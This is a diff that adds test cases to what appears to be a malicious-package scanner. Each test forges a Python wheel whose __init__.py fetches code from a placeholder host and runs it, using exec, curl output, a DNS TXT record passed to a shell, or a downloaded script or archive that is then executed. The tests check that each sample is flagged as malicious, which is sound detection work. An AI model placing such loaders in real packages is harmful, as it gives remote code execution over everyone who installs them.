@@ -48,3 +48,33 @@ test('a crowd of small findings does not hide a large one', () => {
   const sent = report.findings.filter(({ rule }) => rule === 'machine-data-sent');
   assert.deepEqual([sent.length, sent.filter(({ severity }) => severity === 'critical').length], [40, 1], told(report));
 });
+
+/** Ways on which fetched text reaches `exec`. */
+const WAYS: Readonly<Record<string, string>> = {
+  'the constructor of a base': "import requests\nclass Base:\n    def __init__(self, address):\n        self.text = requests.get(address).text\nclass Own(Base):\n    def __init__(self):\n        super().__init__('https://files.example/a')\n        exec(self.text)\nOwn()\n",
+  'a base that calls what the class brings': "import requests\nclass Base:\n    def start(self):\n        self.handle(requests.get('https://files.example/a').text)\nclass Middle(Base):\n    def start(self):\n        super().start()\nclass Own(Middle):\n    def handle(self, text):\n        exec(text)\nOwn().start()\n",
+  'an asynchronous context': "import aiohttp, asyncio\nclass Own:\n    async def __aenter__(self):\n        self.session = aiohttp.ClientSession()\n        return self\n    async def __aexit__(self, *given):\n        await self.session.close()\nasync def main():\n    async with Own() as own:\n        async with own.session.get('https://files.example/a') as answer:\n            exec(await answer.text())\nasyncio.run(main())\n",
+  'the output of a program': "import subprocess\nexec(subprocess.check_output(['curl', '-s', 'https://files.example/a']))\n",
+  'the answer of a name server': "import subprocess\nline = subprocess.check_output('dig +short TXT files.example', shell=True).decode()\nsubprocess.run(line, shell=True)\n",
+};
+
+for (const [what, code] of Object.entries(WAYS)) {
+  test(`fetched code by way of ${what}`, () => {
+    const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': code }), 'demo-1.0-py3-none-any.whl');
+    assert.equal(report.verdict, 'malicious', told(report));
+  });
+}
+
+/** Files that hold what was fetched, by the ways that lead to them. */
+const FILES: Readonly<Record<string, string>> = {
+  'a descriptor': "import os, requests, subprocess, tempfile\nfile, path = tempfile.mkstemp(suffix='.sh')\nos.write(file, requests.get('https://files.example/a').content)\nos.close(file)\nsubprocess.call(['bash', path])\n",
+  'a path object that is opened': "from pathlib import Path\nimport requests, subprocess\npath = Path('/tmp') / 'forged'\nwith path.open('wb') as file:\n    file.write(requests.get('https://files.example/a').content)\nsubprocess.Popen([path.as_posix()])\n",
+  'an archive on disk': "import os, tarfile, urllib.request\nurllib.request.urlretrieve('https://files.example/a.tgz', '/tmp/forged.tgz')\nwith tarfile.open('/tmp/forged.tgz') as archive:\n    archive.extractall('/opt/forged')\nos.system('/opt/forged/run.sh')\n",
+};
+
+for (const [what, code] of Object.entries(FILES)) {
+  test(`a fetched program by way of ${what}`, () => {
+    const report = scan(forgeWheel('demo', '1.0', { 'demo/__init__.py': code }), 'demo-1.0-py3-none-any.whl');
+    assert.equal(report.verdict, 'malicious', told(report));
+  });
+}
